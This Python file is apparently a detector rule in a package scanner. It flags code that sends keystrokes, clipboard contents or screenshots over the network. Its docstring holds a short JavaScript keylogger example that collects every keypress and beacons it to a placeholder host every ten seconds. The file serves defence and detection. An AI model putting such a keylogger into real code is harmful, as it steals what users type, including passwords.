"""Keys, the clipboard or the screen are read and sent out.

*What it does*

Follows values backwards from every call that sends something over a network, and speaks where the keys that somebody
presses, the content of the clipboard, or a picture of the screen may end up there.

A field that is sent when a form is filled in, and a key that is only compared (`event.key === "Enter"`), are not meant.

*Why it matters*

Passwords are typed, and addresses of wallets are pasted. Nothing but a tool for remote control has to send them away
key by key.

*Example*

    let typed = "";
    document.addEventListener("keydown", (event) => { typed += event.key; });
    setInterval(() => navigator.sendBeacon("https://collect.acme.invalid", typed), 10000);
"""

from __future__ import annotations

from collections.abc import Iterator

from assay.detectors.source._flows import confidence, runs_on_install, sinks, softened, when
from assay.model.finding import Finding, finding
from assay.model.rule import Concern, Confidence, Rule, Severity
from assay.model.source import BehaviourKind
from assay.model.subject import Subject

RULE = Rule(
    id="input-capture",
    title="Sends keys, the clipboard or the screen over the network",
    severity=Severity.HIGH,
    concern=Concern.MALICE,
    advice="Do not install or run it. If it has run, replace what was typed or copied while it did.",
    techniques=("T1056.001", "T1115", "T1113", "T1041"),
)
_SOURCES = frozenset({BehaviourKind.INPUT_READ})
_TARGETS = frozenset({BehaviourKind.NETWORK})


def detect(subject: Subject) -> Iterator[Finding]:
    """One finding for each call that sends them."""
    for sink in sinks(subject, _SOURCES, _TARGETS):
        what = sink.sources[0].detail
        severity = RULE.severity if runs_on_install(sink.file) else softened(sink.file, RULE.severity)
        yield finding(
            RULE,
            f"{subject.ref} sends {what} over the network {when(sink.file)}",
            *sink.evidence(f"{sink.behaviour.detail} sends it"),
            severity=severity,
            confidence=confidence(sink.file, Confidence.MEDIUM),
        )
